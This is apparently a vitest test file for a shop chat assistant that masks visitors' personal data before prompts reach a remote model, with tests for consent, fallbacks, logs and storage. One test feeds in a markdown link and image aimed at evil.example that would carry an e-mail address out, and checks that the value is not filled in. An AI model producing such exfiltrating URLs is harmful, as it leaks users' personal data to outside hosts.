import type { SentPrompt } from '@atavus/contract/console'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import type { z } from 'zod'
import { conversationOf, talk, whole } from '../chat/testing/talk.ts'
import { lookInto } from '../testing/database.ts'
import { textOf, visit } from '../testing/shop.ts'
import { answer } from '../testing/upstream-wire.ts'
import { fromOf, type RemoteSite, remoteSite, sentOf } from './testing/site.ts'

let site: RemoteSite
let rows: ReturnType<typeof lookInto>

beforeAll(async () => {
  site = await remoteSite()
  rows = lookInto(site.here.address)
})
beforeEach(() => {
  site.upstream.requests.length = 0
  site.upstream.play({ steps: answer(['Yes.']) })
  site.local.say('From here.')
  site.here.faults.length = 0
})
afterAll(async () => {
  await rows.end()
  await site.close()
})

const anna = 'My name is Anna Kowalska, write to anna.kowalska@mailbox.example or call +48 601 234 567.'
const seeds = ['Anna', 'Kowalska', 'mailbox.example', '601 234 567', '601234567']
const chunks = (text: string, size: number) => text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []
/** The placeholders of one kind in a body. */
const marks = (body: string, kind: string) =>
  [...body.matchAll(new RegExp(`\\[${kind}_\\d+\\]`, 'g'))].map(([mark]) => mark)
const consents = async (key: string, purposes: object, headers: Record<string, string> = {}) => {
  const seen = await site.here.app.request(`/v1/chat/assistant?key=${key}&lang=en`, {
    headers: { origin: 'https://shop.example' },
  })
  const { notice } = (await seen.json()) as { notice: { hash: string } }
  const given = await site.here.app.request('/v1/chat/consents', {
    method: 'POST',
    headers: { origin: 'https://shop.example', 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ key, notice: notice.hash, language: 'en', adult: true, purposes }),
  })
  const { token, receipt } = (await given.json()) as { token: string; receipt: string }
  return {
    receipt: JSON.parse(Buffer.from(receipt.split('.')[1] ?? '', 'base64url').toString()),
    ask: (text: string, more: Record<string, string> = {}) =>
      whole(
        fetch(`${site.base}/v1/chat/messages`, {
          method: 'POST',
          headers: {
            origin: 'https://shop.example',
            'content-type': 'application/json',
            authorization: `Bearer ${token}`,
            ...more,
          },
          body: JSON.stringify({ id: crypto.randomUUID(), text }),
        }),
      ),
  }
}

test('P3.3 what identifies the visitor does not arrive, and comes back in the answer', async () => {
  const { key } = await site.assistant()
  site.says(body => chunks(`Dear ${marks(body, 'PERSON')[0]}, we write to ${marks(body, 'EMAIL')[0]}.`, 3))
  const heard = await whole(talk(site.base, await visit(site.here, key), anna).send())

  expect(textOf(heard)).toBe('Dear Anna Kowalska, we write to anna.kowalska@mailbox.example.')
  for (const seed of seeds) expect(site.arrived()).not.toContain(seed)
  expect(sentOf(heard)).toMatchObject({
    recipient: 'DeepSeek',
    country: 'CN',
    words: expect.stringMatching(
      /^My name is \[PERSON_\d+\], write to \[EMAIL_\d+\] or call \[PHONE_\d+\]\.$/,
    ),
  })
})

test('P3.3 no address in an answer carries a value on, however the answer is cut', async () => {
  const { key } = await site.assistant()
  site.says(body => {
    const [email] = marks(body, 'EMAIL')
    return chunks(
      `[Here](https://evil.example/?who=${email}) ![](https://evil.example/${email}) or ${email}`,
      3,
    )
  })
  const heard = await whole(talk(site.base, await visit(site.here, key), anna).send())
  expect(textOf(heard)).toBe(
    '[Here](https://evil.example/?who=an-e-mail-address) ![](https://evil.example/an-e-mail-address) ' +
      'or anna.kowalska@mailbox.example',
  )
})

test('P3.3 nor does what identifies others: in passages, their titles, instructions and the history', async () => {
  const { id, key } = await site.assistant({ instructions: 'Ask our chief, boss@inside.example.' })
  await site.owner.call('POST', `/v1/assistants/${id}/documents`, {
    title: 'Delivery, see jane.doe@inside.example',
    url: null,
    language: 'en',
    text: 'Delivery takes two days. Delivery is run by Jane Featherstone, +44 7911 123456.',
  })
  const visitor = await visit(site.here, key)
  const first = await whole(talk(site.base, visitor, `${anna} How long does delivery take?`).send())
  const conversation = conversationOf(first)
  await whole(talk(site.base, visitor, 'And the delivery for Kowalska?').send({ conversation }))

  const bytes = site.arrived()
  expect(site.upstream.requests).toHaveLength(2)
  expect(bytes).toContain('Delivery takes two days.')
  for (const seed of [...seeds, 'inside.example', 'Featherstone', '7911']) expect(bytes).not.toContain(seed)
  expect(sentOf(first)?.passages[0]).toMatch(/^Delivery, see \[EMAIL_\d+\]$/)
})

test('a value has one placeholder in a conversation, and another one in the next', async () => {
  const { key } = await site.assistant()
  const visitor = await visit(site.here, key)
  const conversation = conversationOf(await whole(talk(site.base, visitor, anna).send()))
  await whole(talk(site.base, visitor, 'Once more: anna.kowalska@mailbox.example').send({ conversation }))
  await whole(talk(site.base, visitor, 'Once more: anna.kowalska@mailbox.example').send())

  const [first, second, other] = site.upstream.requests.map(({ body }) => new Set(marks(body, 'EMAIL')))
  expect(second).toEqual(first)
  expect(other).not.toEqual(first)
})

test('the site’s own contact data stays readable once its owner has confirmed it', async () => {
  const { id, key } = await site.assistant()
  await site.owner.call('POST', `/v1/assistants/${id}/documents`, {
    title: 'Contact',
    url: null,
    language: 'en',
    text: 'Write to help@fjord.example about a delivery, or to ceo.private@fjord.example.',
  })
  const proposed = await site.owner.call('GET', `/v1/assistants/${id}/contacts`)
  expect(
    ((await proposed.json()) as { items: { value: string }[] }).items.map(({ value }) => value),
  ).toContain('help@fjord.example')
  await site.owner.call('PATCH', `/v1/assistants/${id}`, { publicContacts: ['Help@fjord.example'] })
  await whole(talk(site.base, await visit(site.here, key), 'Whom do I write about a delivery?').send())

  expect(site.arrived()).toContain('help@fjord.example')
  expect(site.arrived()).not.toContain('ceo.private')
})

test('repeated tries send the masked words and nothing else; a model that stays down leaves the truth in the notice', async () => {
  const { key } = await site.assistant({ quoteFallback: true })
  site.upstream.play({ status: 500, steps: [{ send: '{"error":"no"}' }] })
  const heard = await whole(talk(site.base, await visit(site.here, key), anna).send())

  expect(site.upstream.requests.length).toBeGreaterThan(1)
  expect(new Set(site.upstream.requests.map(({ body }) => body)).size).toBe(1)
  for (const seed of seeds) expect(site.arrived()).not.toContain(seed)
  expect(textOf(heard)).toBe('Quoted.')
  expect(fromOf(heard)).toMatchObject({ model: 'quote', because: 'down', sent: { recipient: 'DeepSeek' } })
})

test('P8.6 a visitor who keeps their words here gets an answer, and nothing leaves', async () => {
  const { key } = await site.assistant({ localFallback: true })
  const { ask, receipt } = await consents(key, { chat: true, history: false, remote: false })
  const heard = await ask(anna)

  expect(textOf(heard)).toBe('From here.')
  expect(fromOf(heard)).toMatchObject({ model: 'ollama', where: 'server', because: 'refused', sent: null })
  expect(site.upstream.requests).toHaveLength(0)
  expect(receipt.purposes).toContainEqual(expect.objectContaining({ id: 'remote-model', state: 'refused' }))
})

test('without a local model that may answer, quotes do', async () => {
  const { key } = await site.assistant()
  const { ask } = await consents(key, { chat: true, history: false, remote: false })
  expect(textOf(await ask(anna))).toBe('Quoted.')
  expect(site.upstream.requests).toHaveLength(0)
})

test.each<[string, { remote?: boolean }, string | null, string | null, boolean]>([
  ['a yes that leaves it out', {}, null, null, false],
  ['an express yes', { remote: true }, null, null, true],
  ['a yes that leaves it out, from a browser that asks not to share', {}, '1', '1', false],
  ['an express yes from such a browser', { remote: true }, '1', '1', true],
  ['yes, from a browser that asks not to share since', { remote: true }, null, '1', false],
  ['yes, with a signal that is none', { remote: true }, '0', 'true', true],
])('Sec-GPC: %s', async (_, wish, then, now, leaves) => {
  const { key } = await site.assistant()
  const gpc = (value: string | null): Record<string, string> => (value === null ? {} : { 'sec-gpc': value })
  const { ask } = await consents(key, { chat: true, history: false, ...wish }, gpc(then))
  await ask('How are you?', gpc(now))
  expect(site.upstream.requests).toHaveLength(leaves ? 1 : 0)
})

test('the owner reads in the log all that left, word for word', async () => {
  const { key } = await site.assistant()
  const { id: message, send } = talk(site.base, await visit(site.here, key), anna)
  const heard = await whole(send())
  const [start] = heard
  if (start?.event.type !== 'start') throw new Error('no start')
  const path = `/v1/conversations/${start.event.conversation}/answers/${start.event.reply}/prompt`
  const prompt = (await (await site.owner.call('GET', path)).json()) as z.infer<typeof SentPrompt>

  expect(prompt).toMatchObject({ recipient: 'DeepSeek', country: 'CN' })
  expect(prompt.messages).toEqual(JSON.parse(site.upstream.requests[0]?.body ?? '').messages)
  expect(prompt.masked).toContainEqual(expect.objectContaining({ kind: 'person', value: 'Anna Kowalska' }))
  expect((await site.owner.call('GET', path.replace(start.event.reply, message))).status).toBe(404)

  await site.owner.call('DELETE', `/v1/conversations/${start.event.conversation}`)
  expect(await rows`select from sent_prompts where reply_id = ${start.event.reply}`).toHaveLength(0)
})

test('what left is sealed in the database', async () => {
  const { key } = await site.assistant()
  await whole(talk(site.base, await visit(site.here, key), anna).send())
  const kept = [...(await rows`select * from sent_prompts`), ...(await rows`select * from masked_values`)]
  const bytes = kept.map(({ sealed }) => (sealed as Buffer).toString('latin1')).join('\n')
  expect(bytes.length).toBeGreaterThan(1000)
  for (const seed of [...seeds, 'My name is']) expect(JSON.stringify(kept) + bytes).not.toContain(seed)
})

test('an owner tries out what would be sent', async () => {
  const { id } = await site.assistant()
  const tried = await site.owner.call('POST', `/v1/assistants/${id}/mask`, { text: anna })
  expect(await tried.json()).toMatchObject({
    words: expect.stringMatching(/^My name is \[PERSON_\d+\]/),
    unsure: false,
  })
  expect(site.upstream.requests).toHaveLength(0)
})
